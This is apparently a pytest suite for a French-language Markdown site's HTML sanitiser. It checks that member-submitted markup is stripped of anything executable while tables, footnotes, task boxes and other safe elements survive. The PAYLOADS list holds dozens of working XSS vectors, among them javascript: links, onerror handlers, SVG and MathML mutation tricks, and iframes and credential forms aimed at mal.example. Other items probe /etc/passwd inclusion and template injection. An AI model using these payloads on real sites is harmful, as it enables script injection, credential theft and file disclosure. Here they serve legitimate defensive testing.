"""Members' HTML made harmless, through the whole Markdown pipeline; what is safe is kept."""

from __future__ import annotations

import re
import signal
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown import Markdown
from selectolax.lexbor import LexborHTMLParser

from cdp import sanitize
from cdp.dialect import EXTENSIONS, options
from cdp.markup import ATTRIBUTES, SCHEMES, TAGS
from cdp.sanitize import TooLong, clean
from tests.conftest import RINGS


def published(text: str, lang: str = "fr") -> str:
    return Markdown(extensions=list(EXTENSIONS), extension_configs=options(lang)).convert(text)


MARK = {"span": {"class", "role", "aria-label"}}
"""What the sanitiser itself writes, in place of task boxes."""


def assert_harmless(html: str) -> None:
    """Everything in the HTML, as a browser parses it, is on the list."""
    for parse in (
        LexborHTMLParser(html),
        LexborHTMLParser(f"<table><tr><td>{html}"),
        LexborHTMLParser(f"<p>{html}</p>"),
    ):
        body = parse.body
        for node in body.traverse() if body is not None else ():
            if node.tag in ("-text", "-comment", "_comment", "body", "table", "tr", "td", "tbody", "-undef"):
                continue
            assert node.tag in TAGS - {"input"}, node.html
            for name, value in node.attributes.items():
                if node.tag == "span" and "cdp-task" in (node.attributes.get("class") or ""):
                    assert name in MARK["span"]
                    continue
                assert name in ATTRIBUTES["*"] | ATTRIBUTES.get(node.tag or "", set()), node.html
                seen = re.sub(r"[\x00-\x20]", "", value or "").replace("\\", "/").lower()
                if name in ("href", "src"):
                    assert not seen.startswith("//"), node.html
                    scheme = re.match(r"([a-z][a-z0-9+.-]*):", seen)
                    assert scheme is None or (name == "href" and scheme[1] in SCHEMES), node.html
                if name == "id":
                    assert not (value or "").startswith("__")
                if name == "class":
                    assert not [word for word in (value or "").split() if re.match(r"(?:md|cdp)-(?!button)", word)]


PAYLOADS = r"""
<script>alert(1)</script>
<SCRIPT SRC=https://mal.example/x.js></SCRIPT>
<script type="module">import "https://mal.example"</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/x>alert(1)</script >
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)" alt="x">
<img/src=x/onerror=alert(1)>
<IMG SRC="javascript:alert(1)">
<img src="data:image/svg+xml,<svg onload=alert(1)>">
<img src=//mal.example/x.png>
<img src="https://mal.example/x.png">
<img src="/\mal.example/x.png">
<img src="\\mal.example\x.png">
<img src=" /	/mal.example/x.png">
<img src="ht	tps://mal.example/x.png">
<img srcset="https://mal.example/x.png 2x">
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="java	script:alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="file:///etc/passwd">x</a>
<a href="//mal.example">x</a>
<a href="x" onclick="alert(1)" onmouseover=alert(1)>x</a>
<a href="x" ping="https://mal.example" target="_blank" download>x</a>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<math href="javascript:alert(1)">x</math>
<iframe src="https://mal.example"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="x.swf"></object><embed src="x.swf"><applet code=x>
<base href="https://mal.example/">
<meta http-equiv="refresh" content="0;url=https://mal.example">
<link rel="stylesheet" href="https://mal.example/x.css">
<style>body{display:none}</style>
<p style="position:fixed;inset:0">x</p>
<form action="https://mal.example"><input name="password"><button>ok</button></form>
<button formaction="javascript:alert(1)">x</button>
<input autofocus onfocus=alert(1)>
<input type="image" src="https://mal.example" name="body">
<input id="a>b<input" type="checkbox" title="><img src=x onerror=alert(1)>">
<input title="x>" checked><input id='"><script>alert(1)</script>'>
<a title="<input type=&quot;checkbox&quot;><img src=x onerror=alert(1)>">x</a>
<select><option>x</select><textarea>x</textarea>
<video src=x onerror=alert(1)></video><audio src=x autoplay></audio>
<video><source onerror="alert(1)"></video>
<details open ontoggle=alert(1)>x</details>
<body onload=alert(1)><html onclick=alert(1)>
<div id="__config">{"base": "https://mal.example"}</div>
<div class="md-overlay cdp-banner">x</div>
<div class="MD-dialog md-button x">x</div>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<template><img src=x onerror=alert(1)></template>
<xmp><img src=x onerror=alert(1)></xmp><plaintext>x
<title><img src=x onerror=alert(1)></title>
<!--><img src=x onerror=alert(1)>-->
<!-- --!><img src=x onerror=alert(1)> -->
<![CDATA[<img src=x onerror=alert(1)>]]>
<?php echo "<img src=x onerror=alert(1)>" ?>
<!DOCTYPE html [<!ENTITY x "y">]>
<table background="javascript:alert(1)"><td background=x>x</table>
<marquee onstart=alert(1)>x</marquee><blink>x</blink><font color=red>x</font>
<a name="__config" href="x">x</a><img name="body" src="x.png">
<dialog open>x</dialog><slot name=x></slot><portal src=x></portal>
[x](javascript:alert(1))
[x](JAVASCRIPT:alert(1) "t")
[x](<javascript:alert(1)>)
[x]( javascript:alert(1))
[x](java&#115;cript:alert(1))
[x](data:text/html;base64,PHNjcmlwdD4=)
[x](vbscript:x)
[x][y]
![x](javascript:alert(1))
![x](https://mal.example/pixel.png)
![x](//mal.example/pixel.png)
![x" onerror="alert(1)](x.png)
![x](x.png){ onerror="alert(1)" }
[x](x.md){ onclick="alert(1)" style="x" target=_top }
# Titre { #__search onclick=alert(1) .md-overlay }
texte { #__config }
*x*{ style="position:fixed" }
<javascript:alert(1)>
<https://mal.example"onmouseover=alert(1)>
**<img src=x onerror=alert(1)>**
`<img src=x onerror=alert(1)>`
*[HTML]: " onmouseover="alert(1)
[^1]: <script>alert(1)</script>
??? note "<img src=x onerror=alert(1)>"
!!! note "<script>alert(1)</script>"
!!! "md-overlay cdp-x" "x"
| a |
- [ ] <input onfocus=alert(1) autofocus>
&lt;script&gt;alert(1)&lt;/script&gt;
--8<-- "/etc/passwd"
{{ config.site_url }}{% include "x" %}
""".strip().split("\n")


def test_there_are_enough_payloads() -> None:
    assert len(PAYLOADS) >= 60


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_that_runs_is_left(payload: str) -> None:
    shapes = (
        payload,
        f"Texte {payload} suite\n",
        f"- a\n\n    {payload}\n",
        f"> {payload}\n",
        f"| a |\n|---|\n| {payload} |\n",
        f"<div>\n{payload}\n</div>\n",
        f"x[^1]\n\n[^1]: {payload}\n",
        f"{payload}\n\n[y]: javascript:alert(1)\n\nHTML",
        f"Terme\n\n:   {payload}\n",
        f"*{payload}",
        f"```\n{payload}\n```\n",
    )
    for shape in shapes:
        assert_harmless(published(shape))


def test_files_and_templates_are_never_read() -> None:
    for text in ('--8<-- "/etc/passwd"\n', "{! /etc/passwd !}\n", "![x](file:///etc/passwd)\n", "{{ 7*7 }}\n"):
        html = published(text)
        assert "root:" not in html
        assert "49" not in html


KEPT = {
    "| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |\n": ['<th data-align="left">a</th>', '<td data-align="center">2</td>', '<td data-align="right">3</td>'],
    '<table><tr><td class="x" title="a &lt;td align=" align="right">1</td></tr></table>\n': ['<td class="x" title="a &lt;td align=" data-align="right">'],
    "Un[^1]\n\n[^1]: Note.\n": ['<sup id="fnref:1">', 'href="#fn:1"', 'class="footnote-backref"', 'title="Retour à la note 1 dans le texte"'],
    "- [ ] a\n- [x] b\n": ['class="cdp-task cdp-task--todo" role="img" aria-label="à faire"', 'cdp-task--done" role="img" aria-label="fait"'],
    "!!! warning \"Attention\"\n    Texte\n": ['<div class="admonition warning">', '<p class="admonition-title">Attention</p>'],
    "???+ note \"Plus\"\n    Texte\n": ["<details", "open", "<summary>Plus</summary>"],
    "*[HTML]: Langage\n\nHTML\n": ['<abbr title="Langage">HTML</abbr>'],
    "Terme\n\n:   Définition\n": ["<dl>", "<dt>Terme</dt>", "<dd>"],
    "# Titre\n": ['<h1 id="titre">', 'class="headerlink" href="#titre"', 'title="Lien vers cette partie"'],
    "```python\nx = 1\n```\n": ["<pre", "<code", 'class="'],
    "[x](y.md \"t\") <https://a.b> <a@b.c>\n": ['<a href="y.md" title="t">', 'href="https://a.b"', 'href="mailto:'],
    "![x](y.png){ width=30 }\n": ['<img alt="x" src="y.png" width="30">'],
    "[x](y.md){ .md-button .md-button--primary }\n": ['class="md-button md-button--primary"'],
    '<ol start="3" reversed><li value="4">x</li></ol>\n': ['<ol start="3" reversed="">', '<li value="4">'],
    '<time datetime="2026-01-01">x</time> <ins datetime="x">a</ins> <del>b</del>\n': ['<time datetime="2026-01-01">', "<ins", "<del>"],
    '<span lang="en" dir="ltr" title="t">x</span> <bdi>x</bdi> <kbd>x</kbd> <mark>x</mark>\n': ['lang="en"', 'dir="ltr"', "<bdi>", "<kbd>", "<mark>"],
    '<table><caption>C</caption><colgroup><col span="2"></colgroup><tr><th scope="row" colspan="2">x</th></tr></table>\n':
        ["<caption>C</caption>", '<col span="2">', 'scope="row"', 'colspan="2"'],
    "<figure><img src='x.png' alt='y'><figcaption>z</figcaption></figure>\n": ["<figure>", "<figcaption>z</figcaption>"],
    '<a href="tel:+15145551234">x</a> <a href="http://a.b">y</a>\n': ['href="tel:+15145551234"', 'href="http://a.b"'],
}  # fmt: skip


@pytest.mark.parametrize("text", KEPT)
def test_what_is_safe_is_kept(text: str) -> None:
    html = published(text)
    for part in KEPT[text]:
        assert part in html
    assert_harmless(html)


def test_every_element_and_attribute_of_the_list_is_kept() -> None:
    alone = {"caption", "col", "colgroup", "tbody", "td", "tfoot", "th", "thead", "tr", "input"}
    for tag in sorted(TAGS - alone):
        assert f"<{tag}" in clean(f"<{tag}>x</{tag}>"), tag
    for tag, names in ATTRIBUTES.items():
        for name in names:
            if tag not in alone:
                element = "p" if tag == "*" else tag
                assert f' {name}="7"' in clean(f'<{element} {name}="7">'), (tag, name)


def test_the_words_of_task_boxes_follow_the_language() -> None:
    assert 'aria-label="to do"' in published("- [ ] a\n", "en")
    assert 'aria-label="done"' in published("- [x] a\n", "en")


def test_the_sanitiser_runs_after_raw_html_was_put_back() -> None:
    markdown = Markdown(extensions=list(EXTENSIONS), extension_configs=options("fr"))

    assert markdown.postprocessors[-1] is markdown.postprocessors["cdp-sanitise"]
    assert markdown.preprocessors[0] is markdown.preprocessors["cdp-start"]


@pytest.mark.parametrize(
    ("written", "published_as"),
    [
        ("## A\n\n#### B\n", "23"),
        ("### A\n\n### B\n\n## C\n", "222"),
        ("## A\n\n#### B\n\n#### C\n\n### D\n\n#### E\n\n## F\n", "233342"),
        ("# A\n\n## B\n\n##### C\n", "123"),
        ("## A\n\n> #### B\n\n- ##### C\n", "234"),
    ],
)
def test_no_level_of_headings_is_skipped(written: str, published_as: str) -> None:
    assert "".join(re.findall(r"<h([1-6])", published(written))) == published_as


@pytest.mark.parametrize("value", ["0", "-1", "99999", "1e9", "101%", "100vw", "x", "", "٣"])
def test_a_picture_is_no_larger_than_pictures_are(value: str) -> None:
    assert clean(f'<img src="x.png" width="{value}" height="{value}" alt="">') == '<img src="x.png" alt="">'
    kept = '<img src="x.png" width="50%" height="320" alt="">'
    assert clean(kept) == kept


# Properties

fragments = st.sampled_from(
    ["<", ">", '"', "'", "=", " ", "/", "&", ";", "\t", "\\", "x", "a href=", "javascript:", "&colon;", "<script>", "</script>", "<b>", "</b>",
     "<img src=", "onerror=alert(1)", "<svg>", "<math>", "<style>", "<title>", "<textarea>", "<!--", "-->", "<table>", "<td>", "<input", "type=",
     "checkbox", 'type="checkbox"', " checked", "<p id=__x", " class='md-x y'", "title=", "<details open>", "<noscript>", "<template>", "//h", "http:"]
)  # fmt: skip
html_like = st.lists(fragments, max_size=20).map("".join)


@settings(max_examples=600, deadline=None)
@given(html_like)
def test_what_comes_out_is_on_the_list(html: str) -> None:
    assert_harmless(clean(html))


@settings(max_examples=400, deadline=None)
@given(html_like)
def test_cleaning_twice_changes_nothing(html: str) -> None:
    once = clean(html)
    if "cdp-task" not in once:  # a mark is ours, and would be taken for a member's
        assert clean(once) == once


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.one_of(
            fragments, st.sampled_from(["\n", "\n\n", "- ", "# ", "`", "```\n", "[", "](", ")", "{ ", " }", "| "])
        ),
        max_size=20,
    )
)
def test_markdown_comes_out_harmless(parts: list[str]) -> None:
    assert_harmless(published("".join(parts)))


# The watch


@RINGS
def test_a_text_that_takes_too_long_is_stopped(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sanitize, "TIME_LIMIT", 0.1)
    with pytest.raises(TooLong):
        published("a*" * 60_000)
    sanitize.disarm()


@RINGS
def test_the_watch_outlives_headings_and_extensions_that_catch_everything(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sanitize, "TIME_LIMIT", 0.2)
    start = time.process_time()
    with pytest.raises(TooLong):
        published("# Titre\n\n" + "```\n" * 100_000)
    with pytest.raises(TooLong):
        published("# Titre\n\n" * 20_000)
    sanitize.disarm()
    assert time.process_time() - start < 20


def test_the_watch_leaves_what_is_no_page_alone() -> None:
    sanitize._arm(0.02)
    end = time.monotonic() + 0.1
    while time.monotonic() < end:
        pass
    assert signal.getitimer(signal.ITIMER_REAL) == (0, 0)


def test_the_watch_stops_with_the_page() -> None:
    published("Texte")
    assert signal.getitimer(signal.ITIMER_REAL) == (0, 0)


def test_the_watch_can_be_stopped_after_a_failure(monkeypatch: pytest.MonkeyPatch) -> None:
    sanitize._arm(60)
    sanitize.disarm()
    assert signal.getitimer(signal.ITIMER_REAL) == (0, 0)


def test_pages_can_be_made_in_a_thread() -> None:
    from concurrent.futures import ThreadPoolExecutor

    with ThreadPoolExecutor(1) as threads:
        assert "<script" not in threads.submit(published, "<script>x</script>").result()


def test_cleaning_is_quick_on_what_the_limits_let_through() -> None:
    for unit in (
        "<b>",
        "<p>",
        "<a href=x>",
        "<table>",
        "<table><tr><td>",
        "<li>",
        "<b><p>",
        "<input>",
        "<x>",
        "<b id=x class=y>",
    ):
        html = unit * (20_000 // unit.count("<"))
        start = time.process_time()
        clean(html)
        assert time.process_time() - start < 10, unit


def test_a_heading_with_a_reserved_id_keeps_links_that_work() -> None:
    html = published("# Titre {#__config}\n\n[TOC]\n")

    assert "__config" not in html
    assert html.count('href="#titre"') == 2
    assert 'id="titre"' in html


@given(st.text())
def test_a_text_without_a_mark_is_what_the_cleaner_makes_of_it(text: str) -> None:
    """Such texts skip the cleaner: it must have nothing to do."""
    if not set(text) & set("<>&\0\r\xa0"):
        assert sanitize._CLEANER.clean(text) == text == sanitize.clean(text)
